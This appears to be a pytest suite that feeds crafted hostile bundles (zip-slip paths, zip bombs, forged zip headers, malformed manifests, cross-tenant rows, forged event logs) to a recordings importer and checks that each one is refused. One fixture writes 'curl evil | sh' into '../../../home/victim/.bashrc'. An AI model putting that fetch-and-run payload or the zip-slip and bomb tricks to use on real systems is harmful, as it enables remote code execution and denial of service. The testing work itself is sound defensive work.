"""A corpus of hostile bundles, each imported into a store on SQLite and on PostgreSQL.

Every bundle here is the base bundle (tests/engine/_bundles.py) made hostile the
way someone holding it could: its members edited and their checksums recomputed,
rows naming another tenant or another run, forged event logs, zip-level tricks
(zip-slip names, bombs, members declared larger than they are read), malformed
manifests, and runs the store already holds. The store already holds the same
runs under a victim tenant, and one of them under the importing tenant. Each
import must be refused saying why — and leave every row of the store as it was.
"""

from __future__ import annotations

import asyncio
import io
import json
import shutil
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from _backends import Backend
from wopeval import recordings
from wopeval.store import Store, sqlite_url
from wopeval.store._bundle_read import inflated
from wopeval.store.bundle import RUN_RECORDS, Limits
from wopeval.store.tables import derived_fixtures

from ._bundles import (
    BASELINE,
    ORIGIN,
    REPLAY,
    SOURCE,
    Members,
    event_doc,
    export_format_2,
    first_row,
    import_into,
    manifest_edit,
    only_runs,
    rebuilt,
    rows_of,
    runs_of,
)

VICTIM, IMPORTER = "victim", "ci"
"""The victim holds the bundle's runs already; the importer holds SOURCE already."""
ELSEWHERE = "0123456789abcdef0123456789abcdef"
"""A hex id of no run in the bundle."""

Build = Callable[[Path, Path], Path]
"""A hostile bundle made from the base bundle (first path) at the second path."""

Snapshot = dict[str, list[str]]


def edited(change: Callable[[Members], object]) -> Build:
    """The base bundle with its members changed and its checksums made to match again."""
    return lambda base, target: rebuilt(base, target, change, rehash=True)


def row_edit(hex_id: str, kind: str, change: Callable[[dict[str, Any]], None]) -> Build:
    """The base bundle with the first row of one member changed."""
    return edited(first_row(hex_id, kind, change))


def manifest_changed(change: Callable[[dict[str, Any]], object]) -> Build:
    """The base bundle with its manifest changed (and its checksums as they were)."""
    return lambda base, target: rebuilt(base, target, manifest_edit(change), rehash=False)


def manifest_replaced(text: bytes) -> Build:
    """The base bundle with `text` for its manifest."""
    replace = lambda members: members.update({"manifest.json": text})  # noqa: E731
    return lambda base, target: rebuilt(base, target, replace, rehash=False)


def zipped(build: Callable[[Members, zipfile.ZipFile], None]) -> Build:
    """A zip written member by member from the base bundle's members."""

    def write(base: Path, target: Path) -> Path:
        with zipfile.ZipFile(base) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
            build(members, archive)
        return target

    return write


def directory_patched(member: str, offset: int, value: int, size: int = 4) -> Build:
    """The base bundle with one field of `member`'s central-directory entry overwritten,
    as a crafted zip would set it (offsets: APPNOTE.TXT 4.3.12)."""

    def patch(base: Path, target: Path) -> Path:
        data = bytearray(base.read_bytes())
        entry = _central_entry(bytes(data), member)
        data[entry + offset : entry + offset + size] = value.to_bytes(size, "little")
        target.write_bytes(bytes(data))
        return target

    return patch


def _central_entry(data: bytes, member: str) -> int:
    entry = data.find(b"PK\x01\x02")
    while data[entry + 46 : entry + 46 + struct.unpack_from("<H", data, entry + 28)[0]] != (
        member.encode()
    ):
        entry = data.index(b"PK\x01\x02", entry + 1)
    return entry


def _events(hex_id: str, change: Callable[[list[Any]], None]) -> Callable[[Members], object]:
    """A change to a run's log; its run row's last sequence follows the log's end."""

    def edit(members: Members) -> None:
        rows_of(members, hex_id, "events", change)
        last = max((row["sequence"] for row in _read(members, hex_id, "events")), default=-1)
        rows_of(members, hex_id, "runs", lambda rows: rows[0].update(last_sequence=last))

    return edit


def _read(members: Members, hex_id: str, kind: str) -> list[Any]:
    member = members[f"runs/{hex_id}/{kind}.jsonl"]
    return [json.loads(line) for line in member.splitlines() if line]


def _renumbered(rows: list[Any]) -> None:
    """Each event's row and document given its place in the list as its sequence."""
    for sequence, row in enumerate(rows):
        row["sequence"] = sequence
        doc = json.loads(row["doc"])
        row["doc"] = json.dumps({**doc, "sequence": sequence})


def _appended_after(rows: list[Any], sequence: int, doc_type: str) -> None:
    """One more event, a copy of the last with `doc_type`, at `sequence`."""
    row = json.loads(json.dumps(rows[-1]))
    row.update(sequence=sequence, type=doc_type)
    event_doc(lambda doc: doc.update(sequence=sequence, type=doc_type))(row)
    rows.append(row)


def _moved_to_victim(rows: list[Any]) -> None:
    for row in rows:
        row["run_id"] = f"{VICTIM}/{SOURCE}"


def _terminal_first(rows: list[Any]) -> None:
    rows.insert(0, rows.pop())
    _renumbered(rows)


def _terminal_as(doc_type: str) -> Callable[[list[Any]], None]:
    def change(rows: list[Any]) -> None:
        rows[-1]["type"] = doc_type
        event_doc(lambda doc: doc.update(type=doc_type, payload={}))(rows[-1])

    return change


MODEL_CALL = {
    "run_id": f"{ORIGIN}/{SOURCE}", "invocation_id": "f" * 32, "ordinal": 0, "agent_id": "a",
    "is_delegate": False, "api": "chat", "via": "proxy", "served_by": "live", "status": "ok",
    "request_hash": "sha256:" + "0" * 64, "stream": False, "attempts": 1, "latency_ms": 1,
    "at": "2026-01-01T00:00:00+00:00", "recorded": True, "request": {"messages": []},
}  # fmt: skip
"""A model exchange of SOURCE, as a bundle carries one."""


def _model_call(**changes: Any) -> Build:
    row = {**MODEL_CALL, **changes}
    return edited(
        lambda members: rows_of(members, SOURCE, "model_calls", lambda rows: rows.append(row))
    )


ERASED = "2026-01-01T00:00:00+00:00"


def _zip_slip(members: Members, archive: zipfile.ZipFile) -> None:
    for name, content in members.items():
        archive.writestr(name, content)
    archive.writestr("../../../home/victim/.bashrc", b"curl evil | sh\n")


def _twice(members: Members, archive: zipfile.ZipFile) -> None:
    for name, content in members.items():
        archive.writestr(name, content)
    with pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr("manifest.json", members["manifest.json"])


def _bomb(members: Members, archive: zipfile.ZipFile) -> None:
    for name, content in members.items():
        archive.writestr(name, content)
    # 16 MiB of one byte deflates about a thousand-fold.
    archive.writestr(f"runs/{SOURCE}/bomb.jsonl", b" " * (16 << 20))


def _bzip2(members: Members, archive: zipfile.ZipFile) -> None:
    for name, content in members.items():
        compression = zipfile.ZIP_BZIP2 if name == "manifest.json" else zipfile.ZIP_DEFLATED
        archive.writestr(name, content, compress_type=compression)


def _run_copied_as(hex_id: str) -> Callable[[Members], object]:
    """SOURCE's members copied, unchanged, as those of another run listed in the manifest."""

    def edit(members: Members) -> None:
        for name in [name for name in members if name.startswith(f"runs/{SOURCE}/")]:
            members[name.replace(SOURCE, hex_id)] = members[name]
        manifest_edit(lambda m: m["runs"].append({**m["runs"][0], "id": hex_id}))(members)

    return edit


CENTRAL_FLAGS, CENTRAL_COMPRESSED, CENTRAL_SIZE = 8, 20, 24
EVENTS = f"runs/{SOURCE}/events.jsonl"

HOSTILE: dict[str, tuple[Build, str]] = {
    # ── the zip itself ──
    "a zip-slip member": (zipped(_zip_slip), "'../../../home/victim/.bashrc', which its manifest"),
    "a member twice under one name": (zipped(_twice), "holds a member twice under one name"),
    "a zip bomb": (zipped(_bomb), "bomb.jsonl' inflates 1"),
    "a member declaring 1 GiB": (
        directory_patched(EVENTS, CENTRAL_SIZE, 1 << 30),
        "inflates to 1073741824 bytes; a member may hold at most 268435456",
    ),
    "a member declaring more than it stores can inflate to": (
        directory_patched(EVENTS, CENTRAL_SIZE, 2 << 20),
        f"'{EVENTS}' inflates 2058-fold; at most 200-fold is read",
    ),
    "a member declaring less than it holds": (
        directory_patched(EVENTS, CENTRAL_SIZE, 3),
        f"{EVENTS} is damaged: Bad CRC-32",
    ),
    "an encrypted member": (directory_patched(EVENTS, CENTRAL_FLAGS, 1, 2), "is encrypted"),
    "a member compressed as bzip2": (zipped(_bzip2), "compressed in a way this host does not"),
    # ── malformed manifests ──
    "a manifest that is no JSON": (manifest_replaced(b"{'format':"), "no readable manifest.json"),
    "a manifest that is no UTF-8": (manifest_replaced(b'{"f\xff": 1}'), "no readable manifest"),
    "a manifest nested past reading": (
        manifest_replaced(b"[" * 100_000 + b"]" * 100_000),
        "no readable manifest.json: JSON nested too deep",
    ),
    "a manifest that is a list": (manifest_replaced(b"[]"), "is in format 'None'"),
    "a format that is a list": (
        manifest_changed(lambda m: m.update(format=["wopeval.recordings/2"])),
        "is in format \"['wopeval.recordings/2']\"",
    ),
    "a format that is a number": (manifest_changed(lambda m: m.update(format=2)), "in format '2'"),
    "an unknown format": (
        manifest_changed(lambda m: m.update(format="wopeval.recordings/99")),
        "is in format 'wopeval.recordings/99'",
    ),
    "runs that are no list": (
        manifest_changed(lambda m: m.update(runs={"id": SOURCE})),
        "is not a manifest: runs: Input should be a valid list",
    ),
    "no runs": (manifest_changed(lambda m: m.update(runs=[])), "is not a manifest: runs:"),
    "a run without its files": (
        manifest_changed(lambda m: m["runs"][0].pop("files")),
        "is not a manifest: runs.0.files: Field required",
    ),
    "no origin": (manifest_changed(lambda m: m.pop("origin")), "origin: Field required"),
    "an origin tenant that is a number": (
        manifest_changed(lambda m: m["origin"].update(tenant=7)),
        "origin.tenant: Input should be a valid string",
    ),
    "a checksum that is no SHA-256": (
        manifest_changed(lambda m: m["runs"][0]["files"].update(runs="md5")),
        "runs.0.files.runs: String should match pattern",
    ),
    "a key the manifest has not": (
        manifest_changed(lambda m: m.update(signature="trust me")),
        "signature: Extra inputs are not permitted",
    ),
    # ── rows naming what the manifest does not ──
    "a run row of another hex id": (
        row_edit(SOURCE, "runs", lambda row: row.update(run_id=f"{ORIGIN}/{ELSEWHERE}")),
        f"a row of run '{ORIGIN}/{ELSEWHERE}', not of {ORIGIN}/{SOURCE}",
    ),
    "a run row of the victim tenant": (
        row_edit(SOURCE, "runs", lambda row: row.update(run_id=f"{VICTIM}/{SOURCE}")),
        f"a row of run '{VICTIM}/{SOURCE}'",
    ),
    "a run row whose tenant column is the victim": (
        row_edit(SOURCE, "runs", lambda row: row.update(tenant=VICTIM)),
        "a row of tenant 'victim', not 'prod'",
    ),
    "a run of another kind than its manifest lists": (
        manifest_changed(lambda m: m["runs"][0].update(kind="eval")),
        f"run {ORIGIN}/{SOURCE} is a 'workflow' run; manifest.json lists a 'eval'",
    ),
    "events appended to the victim's run": (
        edited(lambda members: rows_of(members, SOURCE, "events", _moved_to_victim)),
        f"a row of run '{VICTIM}/{SOURCE}', not of {ORIGIN}/{SOURCE}",
    ),
    "an orphan tool call": (
        row_edit(SOURCE, "tool_calls", lambda row: row.update(run_id=f"{ORIGIN}/{ELSEWHERE}")),
        f"a row of run '{ORIGIN}/{ELSEWHERE}', not of {ORIGIN}/{SOURCE}",
    ),
    "an orphan model exchange": (
        _model_call(run_id=f"{ORIGIN}/{ELSEWHERE}"),
        f"model_calls.jsonl line 1: a row of run '{ORIGIN}/{ELSEWHERE}'",
    ),
    "an orphan invocation": (
        row_edit(SOURCE, "invocations", lambda row: row.update(run_id=f"{ORIGIN}/{REPLAY}")),
        f"a row of run '{ORIGIN}/{REPLAY}', not of {ORIGIN}/{SOURCE}",
    ),
    "an orphan trial detail": (
        row_edit(REPLAY, "task_trials", lambda row: row.update(run_id=f"{ORIGIN}/{ELSEWHERE}")),
        f"a row of run '{ORIGIN}/{ELSEWHERE}', not of {ORIGIN}/{REPLAY}",
    ),
    "an orphan derived copy": (
        row_edit(REPLAY, "derived_fixtures", lambda r: r.update(eval_run_id=f"{VICTIM}/{REPLAY}")),
        f"a row of run '{VICTIM}/{REPLAY}', not of {ORIGIN}/{REPLAY}",
    ),
    "an orphan tool listing link": (
        edited(
            lambda members: rows_of(
                members,
                SOURCE,
                "run_tool_listings",
                lambda rows: rows.append(
                    {"run_id": f"{ORIGIN}/{ELSEWHERE}", "server": "s", "digest": "sha256:0"}
                ),
            )
        ),
        f"a row of run '{ORIGIN}/{ELSEWHERE}', not of {ORIGIN}/{SOURCE}",
    ),
    "a model exchange naming the victim's run": (
        _model_call(run_id=f"{VICTIM}/{SOURCE}"),
        f"a row of run '{VICTIM}/{SOURCE}'",
    ),
    "a derived copy sourced from the victim's run": (
        row_edit(
            REPLAY, "derived_fixtures", lambda r: r.update(source_run_id=f"{VICTIM}/{SOURCE}")
        ),
        f"names '{VICTIM}/{SOURCE}', not a run of the bundle's tenant 'prod'",
    ),
    "a run id off the id grammar": (
        row_edit(REPLAY, "derived_fixtures", lambda r: r.update(source_run_id=f"{ORIGIN}/x")),
        f"names '{ORIGIN}/x', not a run of the bundle's tenant 'prod'",
    ),
    "a run copied whole under another hex id": (
        edited(_run_copied_as(ELSEWHERE)),
        f"a row of run '{ORIGIN}/{SOURCE}', not of {ORIGIN}/{ELSEWHERE}",
    ),
    # ── forged event logs ──
    "an event log with a gap": (
        edited(_events(SOURCE, lambda rows: rows.pop(3))),
        f"the log of run {ORIGIN}/{SOURCE} is not gapless from sequence 0",
    ),
    "an event log from sequence 1": (
        edited(_events(SOURCE, lambda rows: rows.pop(0))),
        "is not gapless from sequence 0",
    ),
    "events at sequence 10000 on": (
        edited(_events(SOURCE, lambda rows: _appended_after(rows, 10_000, "node.started"))),
        "is not gapless from sequence 0",
    ),
    "a run row's last sequence past its log": (
        row_edit(SOURCE, "runs", lambda row: row.update(last_sequence=99)),
        "ends at 10; its run row says 99",
    ),
    "an event whose document is at another sequence": (
        row_edit(SOURCE, "events", event_doc(lambda doc: doc.update(sequence=5))),
        "event 0 is not the one its row names",
    ),
    "an event whose document is of another type": (
        row_edit(SOURCE, "events", event_doc(lambda doc: doc.update(type="run.completed"))),
        "event 0 is not the one its row names",
    ),
    "an event document that is no event": (
        row_edit(SOURCE, "events", event_doc(lambda doc: doc.pop("eventId"))),
        "event 0 is no event",
    ),
    "a completed run without a terminal event": (
        edited(_events(SOURCE, lambda rows: rows.pop())),
        "must end with one run.completed event, its status; it has []",
    ),
    "a completed run ending in run.failed": (
        edited(_events(SOURCE, _terminal_as("run.failed"))),
        "must end with one run.completed event, its status; it has ['run.failed']",
    ),
    "two terminal events": (
        edited(_events(SOURCE, lambda rows: _appended_after(rows, 11, "run.completed"))),
        "it has ['run.completed', 'run.completed']",
    ),
    "a terminal event before the end": (
        edited(_events(SOURCE, _terminal_first)),
        "must end with one run.completed event",
    ),
    # ── erased content (an erased run never travels) ──
    "an erased tool call": (
        row_edit(SOURCE, "tool_calls", lambda row: row.update(erased_at=ERASED)),
        "tool_calls.jsonl line 1: erased tool content",
    ),
    "an erased model exchange": (_model_call(erased_at=ERASED), "erased tool content"),
    "an erased trial detail": (
        row_edit(REPLAY, "task_trials", lambda row: row.update(erased_at=ERASED)),
        "task_trials.jsonl line 1: erased tool content",
    ),
    "an erased derived copy": (
        row_edit(REPLAY, "derived_fixtures", lambda row: row.update(erased_at=ERASED)),
        "derived_fixtures.jsonl line 1: erased tool content",
    ),
    # ── runs twice ──
    "a run listed twice": (
        manifest_changed(lambda m: m["runs"].append(m["runs"][0])),
        "lists a run twice",
    ),
    "a run this tenant holds already": (
        lambda base, target: Path(shutil.copy(base, target)),
        f"run {IMPORTER}/{SOURCE} is already in this store; nothing was imported",
    ),
    "a run whose rows clash with rows left in the store": (
        lambda base, target: rebuilt(base, target, only_runs(REPLAY), rehash=False),
        "the derived_fixtures of these runs clash with rows already in this store; "
        "nothing was imported",
    ),
}


@dataclass(frozen=True)
class Seeded:
    url: str
    base: Path


async def _snapshot(store: Store) -> Snapshot:
    """Every row of every table a bundle writes, in a stable order."""
    async with store.reading() as uow:
        return {
            kind.name: sorted(
                repr(tuple(row)) for row in await uow.connection.execute(select(kind.table))
            )
            for kind in RUN_RECORDS
        }


async def _import_refused(url: str, forged: Path) -> tuple[str, Snapshot, Snapshot]:
    """Why the import of `forged` (read and written as `recordings import` does) was
    refused, and the store's rows before and after."""
    store = await Store.open(url)
    try:
        before = await _snapshot(store)
        with pytest.raises(recordings.BundleError) as refused:
            async with store.transaction() as uow:
                await recordings.import_bundle(
                    uow.connection, recordings.read_bundle(forged), IMPORTER
                )
        return str(refused.value), before, await _snapshot(store)
    finally:
        await store.close()


async def _leave_a_stray_row(url: str) -> None:
    """A derived copy under the importer's REPLAY id, whose run this store does not hold."""
    store = await Store.open(url)
    try:
        async with store.transaction() as uow:
            await uow.connection.execute(
                derived_fixtures.insert().values(
                    eval_run_id=f"{IMPORTER}/{REPLAY}", task_id="record", source_run_id="x"
                )
            )
    finally:
        await store.close()


@pytest.fixture(scope="module")
def seeded(backend: Backend, tmp_path_factory: pytest.TempPathFactory) -> Seeded:
    """A store holding the bundle's runs under the victim and SOURCE under the importer."""
    directory = tmp_path_factory.mktemp(f"hostile-{backend.name}")
    (directory / "base").mkdir()
    base = export_format_2(directory / "base")
    url = backend.new_database() or sqlite_url(directory)
    asyncio.run(import_into(url, recordings.read_bundle(base), VICTIM))
    asyncio.run(import_into(url, runs_of(base, directory, SOURCE), IMPORTER))
    asyncio.run(_leave_a_stray_row(url))
    return Seeded(url, base)


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_bundle_is_refused_and_the_store_is_unchanged(
    seeded: Seeded, tmp_path: Path, case: str
) -> None:
    build, message = HOSTILE[case]
    forged = build(seeded.base, tmp_path / "hostile.zip")
    refusal, before, after = asyncio.run(_import_refused(seeded.url, forged))
    assert message in refusal
    assert after == before


async def _rows_of_tenant(url: str, tenant: str) -> dict[str, list[dict[str, Any]]]:
    store = await Store.open(url)
    try:
        async with store.reading() as uow:
            found: dict[str, list[dict[str, Any]]] = {}
            for kind in RUN_RECORDS:
                table = kind.table
                which = (
                    table.c.tenant == tenant
                    if kind.named_by is not None
                    else table.c[kind.run_column].startswith(f"{tenant}/")
                )
                result = await uow.connection.execute(select(table).where(which))
                found[kind.name] = [dict(row) for row in result.mappings()]
            return found
    finally:
        await store.close()


def test_an_import_writes_only_under_the_importing_tenant(seeded: Seeded, tmp_path: Path) -> None:
    """The victim holds the same hex ids; the import leaves them as they were, and every
    id it stores, and prints, is the importing tenant's."""
    tenant = "ci2"
    victim_before = asyncio.run(_rows_of_tenant(seeded.url, VICTIM))
    imported = asyncio.run(import_into(seeded.url, recordings.read_bundle(seeded.base), tenant))
    assert asyncio.run(_rows_of_tenant(seeded.url, VICTIM)) == victim_before
    stored = asyncio.run(_rows_of_tenant(seeded.url, tenant))
    assert imported.run_ids == [row["run_id"] for row in stored["runs"]]
    assert imported.origin == recordings.Origin(host="test", tenant=ORIGIN)
    assert sorted(imported.run_ids) == sorted(f"{tenant}/{h}" for h in (SOURCE, REPLAY, BASELINE))
    assert {row["tenant"] for row in stored["runs"]} == {tenant}
    for event in stored["events"]:
        assert json.loads(event["doc"])["runId"] == event["run_id"]
    # Every run the rows name (a replay's source among them) is renamed to the tenant's.
    (derived,) = stored["derived_fixtures"]
    assert derived["source_run_id"] == f"{tenant}/{SOURCE}"
    everything = json.dumps(stored, default=str)
    for hex_id in (SOURCE, REPLAY, BASELINE):
        assert f"{ORIGIN}/{hex_id}" not in everything
        assert f"{VICTIM}/{hex_id}" not in everything


def test_a_stream_is_refused_once_it_inflates_past_what_it_declared() -> None:
    """What `zipfile` itself holds to (its reads stop at the declared size), the reader
    holds to as well, whatever reads the zip."""
    content = b"x" * (3 << 20)
    assert b"".join(inflated(io.BytesIO(content), len(content), "m")) == content
    with pytest.raises(
        recordings.BundleError, match="m inflates past the 3145727 bytes it declares"
    ):
        list(inflated(io.BytesIO(content), len(content) - 1, "m"))


def test_the_caps_are_the_documented_ones_and_each_refuses(tmp_path: Path) -> None:
    limits = Limits()
    assert (limits.member_bytes, limits.bundle_bytes) == (256 << 20, 1 << 30)
    assert (limits.ratio, limits.ratio_floor) == (200, 1 << 20)
    base = export_format_2(tmp_path)
    size = max(info.file_size for info in zipfile.ZipFile(base).infolist())
    total = sum(info.file_size for info in zipfile.ZipFile(base).infolist())
    assert recordings.read_bundle(base, Limits(member_bytes=size, bundle_bytes=total))
    with pytest.raises(recordings.BundleError, match=f"a member may hold at most {size - 1}"):
        recordings.read_bundle(base, Limits(member_bytes=size - 1))
    with pytest.raises(
        recordings.BundleError, match=f"inflates to {total} bytes; at most {total - 1}"
    ):
        recordings.read_bundle(base, Limits(bundle_bytes=total - 1))
    # At the floor, a member is held to the ratio.
    with pytest.raises(recordings.BundleError, match="-fold; at most 1-fold is read"):
        recordings.read_bundle(base, Limits(ratio=1, ratio_floor=size))
    assert recordings.read_bundle(base, Limits(ratio=1, ratio_floor=size + 1))


def test_a_central_directory_entry_is_where_the_patches_write() -> None:
    """The offsets `directory_patched` writes at are those of the fields they name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("m", b"y" * 1000)
    data = buffer.getvalue()
    entry = data.rindex(b"PK\x01\x02")
    (info,) = zipfile.ZipFile(buffer).infolist()
    assert struct.unpack_from("<I", data, entry + CENTRAL_SIZE)[0] == info.file_size == 1000
    assert struct.unpack_from("<I", data, entry + CENTRAL_COMPRESSED)[0] == info.compress_size
    assert struct.unpack_from("<H", data, entry + CENTRAL_FLAGS)[0] == info.flag_bits
